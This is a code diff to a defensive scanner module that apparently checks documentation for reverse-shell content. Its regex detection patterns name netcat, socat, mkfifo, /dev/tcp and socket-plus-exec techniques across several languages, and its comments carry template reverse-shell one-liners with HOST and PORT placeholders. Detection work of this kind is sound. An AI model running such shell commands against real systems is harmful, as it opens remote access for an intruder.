@@ -5,31 +5,30 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
-import re2
-
+from mkdocs_threatpub.core.lazy import lazy_re2
 from mkdocs_threatpub.scanners.base import Hit, hit
 from mkdocs_threatpub.scanners.document import Document
 
 _PATTERNS = [
     # bash -i >& /dev/tcp/HOST/PORT 0>&1  (also /dev/udp)
-    (re2.compile(r"(?i)/dev/(?:tcp|udp)/[^\s/]{1,255}/\d{1,5}"), "reverse shell (/dev/tcp redirection)"),
+    (lazy_re2(r"(?i)/dev/(?:tcp|udp)/[^\s/]{1,255}/\d{1,5}"), "reverse shell (/dev/tcp redirection)"),
     # nc -e /bin/sh HOST PORT ; ncat --exec ; nc -c bash
-    (re2.compile(r"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;]{0,80}\s(?:-e|-c|--exec|--sh-exec)\s{1,5}[^\s]{0,80}(?:sh|bash|cmd|powershell)"), "reverse or bind shell (netcat exec)"),
+    (lazy_re2(r"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;]{0,80}\s(?:-e|-c|--exec|--sh-exec)\s{1,5}[^\s]{0,80}(?:sh|bash|cmd|powershell)"), "reverse or bind shell (netcat exec)"),
     # mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f
-    (re2.compile(r"(?i)mkfifo\s[^\n]{0,200}\|\s{0,5}(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,120}\|\s{0,5}(?:nc|ncat|netcat|telnet|openssl)\b"), "reverse shell (mkfifo pipe)"),
+    (lazy_re2(r"(?i)mkfifo\s[^\n]{0,200}\|\s{0,5}(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,120}\|\s{0,5}(?:nc|ncat|netcat|telnet|openssl)\b"), "reverse shell (mkfifo pipe)"),
     # socat exec:'bash -li',pty,stderr tcp:HOST:PORT
-    (re2.compile(r"(?i)socat\b[^\n]{0,200}\b(?:exec|system):[^\n]{0,200}\btcp(?:4|6)?(?:-listen)?:"), "reverse or bind shell (socat exec)"),
-    (re2.compile(r"(?i)socat\b[^\n]{0,200}\btcp(?:4|6)?(?:-listen)?:[^\n]{0,200}\b(?:exec|system):"), "reverse or bind shell (socat exec)"),
+    (lazy_re2(r"(?i)socat\b[^\n]{0,200}\b(?:exec|system):[^\n]{0,200}\btcp(?:4|6)?(?:-listen)?:"), "reverse or bind shell (socat exec)"),
+    (lazy_re2(r"(?i)socat\b[^\n]{0,200}\btcp(?:4|6)?(?:-listen)?:[^\n]{0,200}\b(?:exec|system):"), "reverse or bind shell (socat exec)"),
     # PowerShell: New-Object System.Net.Sockets.TCPClient(...) ... iex / Invoke-Expression
-    (re2.compile(r"(?is)Net\.Sockets\.TCPClient\s{0,5}\([^\n]{0,400}(?:iex|Invoke-Expression|\.Write\()"), "reverse shell (PowerShell TCPClient)"),
+    (lazy_re2(r"(?is)Net\.Sockets\.TCPClient\s{0,5}\([^\n]{0,400}(?:iex|Invoke-Expression|\.Write\()"), "reverse shell (PowerShell TCPClient)"),
     # python/perl/ruby/php socket + dup2/exec/subprocess
-    (re2.compile(r"(?i)socket\.socket\([^\n]{0,400}(?:os\.dup2|subprocess\.call|pty\.spawn)"), "reverse shell (Python socket and dup2)"),
-    (re2.compile(r"(?i)\buse\s+socket\b[^\n]{0,400}\bexec\s{0,5}\(\s{0,5}\"?/bin/(?:ba)?sh"), "reverse shell (Perl socket and exec)"),
-    (re2.compile(r"(?i)fsockopen\s{0,5}\([^\n]{0,200}(?:exec|shell_exec|system|passthru|proc_open|popen)\s{0,5}\("), "reverse shell (PHP fsockopen and exec)"),
-    (re2.compile(r"(?i)TCPSocket\.(?:new|open)\s{0,5}\([^\n]{0,300}(?:exec|spawn|IO\.popen|\bsh\b)"), "reverse shell (Ruby TCPSocket and exec)"),
+    (lazy_re2(r"(?i)socket\.socket\([^\n]{0,400}(?:os\.dup2|subprocess\.call|pty\.spawn)"), "reverse shell (Python socket and dup2)"),
+    (lazy_re2(r"(?i)\buse\s+socket\b[^\n]{0,400}\bexec\s{0,5}\(\s{0,5}\"?/bin/(?:ba)?sh"), "reverse shell (Perl socket and exec)"),
+    (lazy_re2(r"(?i)fsockopen\s{0,5}\([^\n]{0,200}(?:exec|shell_exec|system|passthru|proc_open|popen)\s{0,5}\("), "reverse shell (PHP fsockopen and exec)"),
+    (lazy_re2(r"(?i)TCPSocket\.(?:new|open)\s{0,5}\([^\n]{0,300}(?:exec|spawn|IO\.popen|\bsh\b)"), "reverse shell (Ruby TCPSocket and exec)"),
     # Java/Groovy: Runtime exec of bash -c with /dev/tcp handled by the first pattern;
     # ProcessBuilder with a socket
-    (re2.compile(r"(?i)new\s+Socket\s{0,5}\([^\n]{0,300}ProcessBuilder|ProcessBuilder[^\n]{0,300}new\s+Socket\s{0,5}\("), "reverse shell (Java socket and ProcessBuilder)"),
+    (lazy_re2(r"(?i)new\s+Socket\s{0,5}\([^\n]{0,300}ProcessBuilder|ProcessBuilder[^\n]{0,300}new\s+Socket\s{0,5}\("), "reverse shell (Java socket and ProcessBuilder)"),
 ]
 
 # A literal every match of the pattern at the same index contains (lower case).
